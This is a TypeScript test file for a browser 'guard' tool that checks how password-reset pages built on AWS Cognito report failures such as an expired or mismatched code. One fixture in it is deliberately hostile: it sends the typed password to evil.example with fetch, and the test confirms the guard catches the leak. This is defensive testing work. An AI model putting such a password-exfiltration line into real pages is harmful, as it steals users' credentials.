import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { openChromium } from '../../src/guard/chromium.ts';
import { findChromium } from '../../src/guard/find-chromium.ts';
import { guard } from '../../src/guard/guard.ts';
import { saysFailuresInWords } from '../../src/guard/invariants/says-failures-in-words.ts';
import { tellsNobodyElse } from '../../src/guard/invariants/tells-nobody-else.ts';
import { openJsdom } from '../../src/guard/jsdom.ts';
import type { Browse } from '../../src/guard/visit.ts';
import { portsWith, withFailures, writtenPage } from './guarded-pages.ts';

/*
 * Failures are seen on a page that is tried again and again, as long as it does well: what is told of each must be what
 * would be told of it alone.
 */

const failures = ['CodeMismatchException', 'ExpiredCodeException', 'LimitExceededException'];

/** A page that does with each failure what the script says; `name` is the error's, `tries` how many there were. */
const pageOf = (failed: string) => `<!doctype html>
<title>Reset</title>
<form><input name="code"><input type="password"><button>Save</button></form><p id="told"></p>
<script>
  const asked = new URLSearchParams(location.search);
  const [form, told, field] = ['form', '#told', '[type=password]'].map(one => document.querySelector(one));
  document.querySelector('[name=code]').value = asked.get('code');
  const hint = told.textContent = 'Choose a password of twelve letters or more.';
  let tries = 0;
  let last = hint;
  field.addEventListener('input', () => { told.textContent = hint; });
  form.addEventListener('submit', async event => {
    event.preventDefault();
    const answer = await fetch('https://cognito-idp.us-east-1.amazonaws.com/', {
      method: 'POST',
      headers: { 'x-amz-target': 'AWSCognitoIdentityProviderService.ConfirmForgotPassword' },
      body: JSON.stringify({
        ClientId: asked.get('cid'), Username: asked.get('email'), ConfirmationCode: asked.get('code'),
        Password: field.value,
      }),
    });
    const { __type: name } = await answer.json();
    tries += 1;
    ${failed}
  });
</script>`;

const words = `({
  CodeMismatchException: 'This code is wrong. Please read the mail again.',
  ExpiredCodeException: 'That one has run out: let us send another.',
  LimitExceededException: 'Too many attempts were made; wait for an hour.',
})[name]`;

interface Row {
  readonly failed: string;
  /** How often it is opened for the failures, on one errand after the other. */
  readonly opened: number;
  readonly wrong?: readonly string[];
}

const rows: Readonly<Record<string, Row>> = {
  'tells each failure': { failed: `told.textContent = ${words};`, opened: 1 },
  'adds each failure to those of before': { failed: `told.textContent += ' ' + ${words};`, opened: 1 },
  'tells them in a dialog': { failed: `alert(${words});`, opened: 1 },
  'tells all in the same words': {
    failed: "told.textContent = 'This did not work. Please ask for a new code.';",
    opened: 3,
  },
  'takes its form away': { failed: `told.textContent = ${words}; form.remove();`, opened: 3 },
  'stops after two tries': {
    failed: `told.textContent = ${words}; document.querySelector('button').disabled = tries > 1;`,
    opened: 2,
  },
  'says nothing of one failure': {
    failed: `if (name !== 'ExpiredCodeException') told.textContent = ${words};`,
    opened: 2,
    wrong: ['ExpiredCodeException'],
  },
  'says of one failure its name': {
    failed: `told.textContent = name === 'LimitExceededException' ? name : ${words};`,
    opened: 2,
    wrong: ['LimitExceededException'],
  },
  'says what it said at its first try': {
    failed: `if (tries === 1) told.textContent = ${words};`,
    opened: 3,
  },
  'shows a hint again in place of one failure': {
    failed: `told.textContent = name === 'ExpiredCodeException' ? hint : ${words};`,
    opened: 2,
    wrong: ['ExpiredCodeException'],
  },
  'shows an old failure again in place of one': {
    failed: `if (name !== 'LimitExceededException') last = ${words}; told.textContent = last;`,
    opened: 2,
    wrong: ['LimitExceededException'],
  },
  'goes to another page with one failure': {
    failed: `if (name === 'ExpiredCodeException') location.href = '/gone'; else told.textContent = ${words};`,
    opened: 2,
    wrong: ['ExpiredCodeException'],
  },
};

async function holds(browse: Browse, { failed, opened, wrong = [] }: Row): Promise<void> {
  const page = await writtenPage(pageOf(failed));
  try {
    let visits = 0;
    const counting: Browse = {
      ...browse,
      visit(errand) {
        visits += 1;
        return browse.visit(errand);
      },
    };
    const held = withFailures(saysFailuresInWords, failures);
    const verdicts = await guard(
      { ...portsWith(counting), atOnce: 1 },
      { ...page.guarded, invariants: [held] },
    );
    assert.equal(verdicts.length, failures.length);
    const found = verdicts
      .filter(({ problem }) => problem !== undefined)
      .map(({ occasion }) => (occasion.kind === 'failure' ? occasion.failure : occasion.kind));
    assert.deepEqual(found, wrong);
    assert.equal(visits, opened);
  } finally {
    await page.close();
  }
}

const patience = { load: 10_000, quiet: 800 };

describe('in jsdom, a page that', () => {
  const browse = openJsdom({ patience, hook: undefined, threads: 1 });
  after(() => browse.close());
  for (const [name, row] of Object.entries(rows)) test(name, () => holds(browse, row));
});

test('a page that tells the password elsewhere only when it is tried again is found out', async () => {
  const browse = openJsdom({ patience, hook: undefined, threads: 1 });
  const page = await writtenPage(
    pageOf(`if (tries > 1) fetch('https://evil.example/?p=' + field.value).catch(() => {});
      told.textContent = ${words};`),
  );
  try {
    const held = [saysFailuresInWords, tellsNobodyElse].map(one => withFailures(one, failures));
    const verdicts = await guard({ ...portsWith(browse), atOnce: 1 }, { ...page.guarded, invariants: held });
    const problems = verdicts.flatMap(({ problem }) => problem ?? []);
    assert.deepEqual(problems, [
      'The page told the password to https://evil.example, beside the call of ConfirmForgotPassword.',
    ]);
  } finally {
    await page.close();
    await browse.close();
  }
});

describe('in Chromium, a page that', async () => {
  const program = findChromium(process.env, process.platform);
  if (program === undefined) throw new Error('the tests need a Chromium');
  const browse = await openChromium({
    ...{ program, patience, hook: undefined, allowedOrigins: [] },
    ...{ mayDoWithoutSandbox: true, environment: process.env },
  });
  after(() => browse.close());
  for (const name of ['tells each failure', 'takes its form away', 'says nothing of one failure']) {
    const row = rows[name];
    if (row) test(name, () => holds(browse, row));
  }
});
